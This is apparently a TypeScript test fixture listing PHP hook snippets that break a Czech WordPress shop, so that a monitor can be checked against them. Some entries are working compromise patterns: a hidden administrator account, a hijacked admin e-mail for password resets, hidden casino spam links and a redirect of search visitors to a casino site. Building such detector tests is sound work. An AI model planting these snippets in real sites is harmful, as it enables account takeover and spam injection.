import type { Way } from './ways-to-break.ts';

const on = (hook: string, code: string, priority = 10) =>
  `add_action('${hook}', function () { ${code} }, ${priority});`;
const filter = (hook: string, code: string, priority = 10) =>
  `add_filter('${hook}', function ($value) { ${code} }, ${priority});`;
const isPost = `$_SERVER['REQUEST_METHOD'] === 'POST'`;

/** What a visitor of the first page at a desk does not notice; written before the looks that find it. */
export const subtlerWays: Way[] = [
  {
    name: 'zero-prices',
    about: 'every price is 0',
    new: filter('the_content', `return preg_replace('~\\d+ Kč~u', '0 Kč', $value);`),
    breaks: true,
  },
  {
    name: 'order-fails',
    about: 'an order that is sent off ends with status 500',
    new: on(
      'template_redirect',
      `if (is_page('pokladna') && ${isPost}) { status_header(500); exit; }`,
    ),
    breaks: true,
  },
  {
    name: 'empty-on-phones',
    about: 'phones get an empty page',
    new: on('template_redirect', 'if (wp_is_mobile()) exit;'),
    breaks: true,
  },
  {
    name: 'lost-route',
    about: 'a route of the interface is gone',
    new: filter('rest_endpoints', `unset($value['/obchod/v1/zbozi']); return $value;`),
    breaks: true,
  },
  {
    name: 'english-without-text',
    about: 'the English page has lost its text',
    new: filter('the_content', `return is_page('en') ? '' : $value;`),
    breaks: true,
  },
  {
    name: 'spam-links',
    about: 'links to casinos that nobody sees',
    new: on(
      'wp_footer',
      `echo '<div style="position:absolute;left:-9000px"><a href="https://casino-jedna.example/">kasino</a> <a href="https://pujcka.example/">půjčka</a></div>';`,
    ),
    breaks: true,
  },
  {
    name: 'foreign-canonical',
    about: 'search engines are sent to another site',
    new: filter('get_canonical_url', `return 'https://jinde.example/';`),
    breaks: true,
  },
  {
    name: 'sign-in-refused',
    about: 'nobody can sign in',
    new: filter('authenticate', `return new WP_Error('ne', 'Ne.');`, 99),
    breaks: true,
  },
  {
    name: 'mail-off',
    about: 'mail is thrown away without a word',
    new: filter('pre_wp_mail', 'return true;'),
    breaks: true,
  },
  {
    name: 'new-administrator',
    about: 'somebody else has become an administrator',
    new: on(
      'init',
      `if (!username_exists('podpora')) wp_insert_user(['user_login' => 'podpora', 'user_pass' => wp_generate_password(), 'user_email' => 'podpora@jinde.example', 'role' => 'administrator']);`,
    ),
    breaks: true,
  },
  {
    name: 'other-currency',
    about: 'all prices are in another currency',
    new: filter('the_content', `return preg_replace('~(\\d+) Kč~u', '$1 €', $value);`),
    breaks: true,
  },
  {
    name: 'stuffed-words',
    about: 'words for search engines, far outside the screen',
    new: on(
      'wp_footer',
      `echo '<p style="text-indent:-9999px">' . str_repeat('levné pečivo online akce sleva ', 20) . '</p>';`,
    ),
    breaks: true,
  },
  {
    name: 'no-planned-tasks',
    about: 'no planned task is left',
    new: filter('pre_option_cron', 'return [];'),
    breaks: true,
  },
  {
    name: 'basket-fails',
    about: 'a change of the basket ends with an error',
    new: on('template_redirect', `if (is_page('kosik') && ${isPost}) no_such_function_at_all();`),
    breaks: true,
  },
  {
    name: 'hidden-on-phones',
    about: 'a style hides the content on narrow screens',
    new: on('wp_head', `echo '<style>@media (max-width:600px){main{display:none}}</style>';`),
    breaks: true,
  },
  {
    name: 'english-leads-home',
    about: 'the English page leads to the Czech one',
    new: on('template_redirect', `if (is_page('en')) { wp_redirect(home_url('/')); exit; }`),
    breaks: true,
  },
  {
    name: 'no-comments',
    about: 'articles have lost their form',
    new: filter('comments_open', 'return false;'),
    breaks: true,
  },
  {
    name: 'other-owner',
    about: 'the administrator has another e-mail address, where a new password would go',
    new: on(
      'init',
      `global $wpdb; $wpdb->update($wpdb->users, ['user_email' => 'cizi@jinde.example'], ['ID' => 1]); clean_user_cache(1);`,
    ),
    breaks: true,
  },
  {
    name: 'empty-feed',
    about: 'the feed has no articles',
    new: filter('the_posts', 'return is_feed() ? [] : $value;'),
    breaks: true,
  },
  {
    name: 'searchers-sent-away',
    about: 'who comes from a search engine is sent to another site',
    new: on(
      'template_redirect',
      `if (str_contains($_SERVER['HTTP_REFERER'] ?? '', 'google.')) { wp_redirect('https://casino-jedna.example/'); exit; }`,
    ),
    breaks: true,
  },
  {
    name: 'one-price',
    about: 'one price of several is another one',
    new: filter('the_content', `return str_replace('45 Kč', '49 Kč', $value);`),
    breaks: false,
  },
  {
    name: 'more-routes',
    about: 'another route, another planned task, a window that is not open yet',
    new: `${on('rest_api_init', `register_rest_route('zkouska/v1', '/stav', ['methods' => 'GET', 'callback' => fn () => [], 'permission_callback' => '__return_true']);`)}
${on('init', `if (!wp_next_scheduled('zkouska_uklid')) wp_schedule_event(time() + 60, 'daily', 'zkouska_uklid');`)}
${on('wp_footer', `echo '<p>Zkouška, první verze.</p><div style="display:none">Odebírejte novinky</div>';`)}`,
    breaks: false,
  },
  {
    name: 'other-phone-look',
    about: 'phones get a bar of their own',
    new: on(
      'wp_footer',
      `echo '<p>Zkouška, první verze.</p>'; if (wp_is_mobile()) echo '<p>Zavolejte nám</p>';`,
    ),
    breaks: false,
  },
];
